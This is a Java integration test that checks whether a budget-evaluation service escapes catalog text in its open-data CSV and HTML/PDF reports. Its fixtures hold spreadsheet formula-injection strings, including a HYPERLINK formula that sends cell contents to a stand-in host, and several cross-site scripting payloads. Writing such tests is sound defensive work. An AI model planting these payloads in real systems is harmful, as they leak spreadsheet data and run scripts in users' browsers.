package mx.pbrsed.evaluation.rest;

import static mx.pbrsed.evaluation.Peticiones.comoConsulta;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.io.StringReader;
import java.math.BigDecimal;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import mx.pbrsed.evaluation.service.EventosPrueba;
import mx.pbrsed.evaluation.service.ResultadosApi;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The texts evaluation shows come from the catalog, which takes any name: what they hold reaches
 * the CSV and the printable report as text, never as a spreadsheet formula or as markup.
 */
@QuarkusTest
class ContenidoHostilTest {
    private static final String HIPERVINCULO = "=HYPERLINK(\"http://x.example/?d=\"&A1,\"Ver\")";

    @Inject
    EventosPrueba eventos;
    @Inject
    ObjectMapper json;

    private String programa;
    private String ramo;
    private String ur;

    @BeforeAll
    static void registrarFallos() {
        RestAssured.enableLoggingOfRequestAndResponseIfValidationFails();
    }

    @BeforeEach
    void claves() {
        int n = ThreadLocalRandom.current().nextInt(100_000, 1_000_000);
        programa = "P" + n;
        ramo = "R" + n;
        ur = "U" + n;
    }

    @Test
    void losTextosQueUnaHojaDeCalculoEjecutariaSalenNeutralizadosYLosNumerosComoNumeros() throws Exception {
        ObjectNode delPrograma = eventos.programa(UUID.randomUUID(), 1, programa, ramo, ur);
        delPrograma.put("nombre", "+SUMA(1;2)");
        ((ObjectNode) delPrograma.get("ramo")).put("nombre", "@SUMA(A1)");
        ((ObjectNode) delPrograma.get("unidadResponsable")).put("nombre", "\tTABULADOR");
        eventos.publicarPrograma(delPrograma);
        UUID id = UUID.randomUUID();
        ObjectNode definicion = EventosPrueba.enPrograma(eventos.programasMigrantes(id, 1), programa);
        definicion.put("nombre", HIPERVINCULO);
        definicion.put("unidadMedida", "-1+1");
        // V1 - V2: a negative logro, which must stay a number
        ObjectNode metodo = (ObjectNode) definicion.get("metodoCalculo");
        metodo.put("expresion", "V1-V2");
        metodo.set("arbol", json.readTree("""
                {"tipo":"OPERACION","operador":"-","izquierda":{"tipo":"VARIABLE","clave":"V1"},
                 "derecha":{"tipo":"VARIABLE","clave":"V2"}}"""));
        eventos.publicarIndicador(definicion);
        eventos.registrarCaptura(eventos.capturaAnual(id, 1, Map.of("V1", 3, "V2", 10)));
        ResultadosApi.esperar(id, consulta -> consulta.resultados().resultados().stream()
                .anyMatch(r -> r.trimestre() == 4 && r.logro() != null));

        CSVRecord fila = await().atMost(ResultadosApi.ESPERA).until(() -> filaCsv(id), f -> f != null
                && !f.get("DESC_PP").isEmpty());
        String linea = csv().lines().filter(l -> l.contains(id.toString())).findFirst().orElseThrow();

        assertThat(fila.get("NOMBRE_INDICADOR")).isEqualTo("'" + HIPERVINCULO);
        assertThat(linea).contains("\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Ver\"\")\"");
        assertThat(fila.get("DESC_PP")).isEqualTo("'+SUMA(1;2)");
        assertThat(fila.get("DESC_RAMO")).isEqualTo("'@SUMA(A1)");
        assertThat(fila.get("DESC_UR")).isEqualTo("'\tTABULADOR");
        assertThat(fila.get("UNIDAD_MEDIDA")).isEqualTo("'-1+1");
        assertThat(linea).contains(",\"'-1+1\",");
        // Numbers are not touched: a negative logro is written as the number it is, unquoted.
        assertThat(fila.get("AVANCE_MES12")).isEqualTo("-7");
        assertThat(linea).contains(",-7,");
        assertThat(fila.get("META_AJUSTADA_MES12")).isEqualTo("0");
        // Texts that start otherwise are left as they were.
        assertThat(fila.get("FRECUENCIA")).isEqualTo("ANUAL");
        assertThat(fila.get("ID_PP")).isEqualTo(programa);
    }

    @Test
    void elReporteEscribeComoTextoCadaMarcaQueTraenLosNombres() throws Exception {
        ObjectNode delPrograma = eventos.programa(UUID.randomUUID(), 1, programa, ramo, ur);
        delPrograma.put("nombre", "<script>alert(1)</script>");
        ((ObjectNode) delPrograma.get("ramo")).put("nombre", "<b onmouseover=alert(2)>ramo</b>");
        ((ObjectNode) delPrograma.get("unidadResponsable")).put("nombre", "\"><img src=x onerror=alert(3)>");
        eventos.publicarPrograma(delPrograma);
        UUID id = UUID.randomUUID();
        ObjectNode definicion = EventosPrueba.enPrograma(eventos.matriculaConsular(id, 1, 45649), programa);
        definicion.put("nombre", "<script>alert(4)</script>");
        definicion.put("unidadMedida", "<i>u</i>");
        ((ObjectNode) definicion.get("metodoCalculo")).put("expresion", "V1</p><script>alert(5)</script>");
        ((ObjectNode) definicion.get("variables").get(0)).put("descripcion", "<svg onload=alert(6)>");
        // A range bound with hundredths, which the catalog takes: printed rounded, as the others
        ((ObjectNode) definicion.get("parametrosSemaforo").get(0)).put("hasta", new BigDecimal("70.55"));
        ((ObjectNode) definicion.get("parametrosSemaforo").get(1)).put("desde", new BigDecimal("70.55"));
        definicion.put("resumenNarrativo", "<script>alert(7)</script>");
        // Only http(s) addresses become links, and a quote ends one: the rest is text.
        definicion.put("mediosVerificacion", "javascript:alert(8) https://x.example/\"onmouseover=alert(9)");
        eventos.publicarIndicador(definicion);
        ObjectNode captura = eventos.capturaAnual(id, 1, Map.of("V1", 32822));
        captura.put("analisisLogro", "<img src=y onerror=alert(10)>");
        captura.put("comentario", "<a href=javascript:alert(11)>x</a>");
        eventos.registrarCaptura(captura);
        ResultadosApi.esperarQ4Calculado(id);

        String html = await().atMost(ResultadosApi.ESPERA).until(this::reporte,
                texto -> texto != null && texto.contains("alert(3)"));

        assertThat(html).doesNotContain("<script>alert", "<b onmouseover", "<img src=", "<svg onload", "<i>u</i>",
                "</p><script>", "href=\"javascript", "<a href=javascript", "\"onmouseover");
        assertThat(html).contains("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(4)&lt;/script&gt;",
                "&lt;b onmouseover=alert(2)&gt;ramo&lt;/b&gt;", "&quot;&gt;&lt;img src=x onerror=alert(3)&gt;",
                "&lt;svg onload=alert(6)&gt;", "&lt;i&gt;u&lt;/i&gt;", "V1&lt;/p&gt;&lt;script&gt;alert(5)",
                "&lt;script&gt;alert(7)&lt;/script&gt;", "javascript:alert(8) <a href=\"https://x.example/\">",
                "&quot;onmouseover=alert(9)", "&lt;img src=y onerror=alert(10)&gt;",
                "&lt;a href=javascript:alert(11)&gt;x&lt;/a&gt;", "Bajo 0.0% - 70.5%", "Regular 70.6% - 94.9%");
        // The same page as a PDF: hostile text is laid out as text.
        comoConsulta().get("/programas/2023/{clave}/reporte.pdf", programa).then().statusCode(200)
                .contentType("application/pdf");
    }

    private String csv() {
        return comoConsulta().queryParam("ejercicio", EventosPrueba.EJERCICIO).get("/datos-abiertos/avance-indicadores.csv")
                .then().statusCode(200).extract().asString();
    }

    private CSVRecord filaCsv(UUID id) throws Exception {
        try (var filas = CSVParser.parse(new StringReader(csv()),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            return filas.stream().filter(f -> f.get("ID_INDICADOR").equals(id.toString())).findFirst().orElse(null);
        }
    }

    private String reporte() {
        Response respuesta = comoConsulta().get("/programas/2023/{clave}/reporte", programa);
        return respuesta.statusCode() == 200 ? respuesta.asString() : null;
    }
}
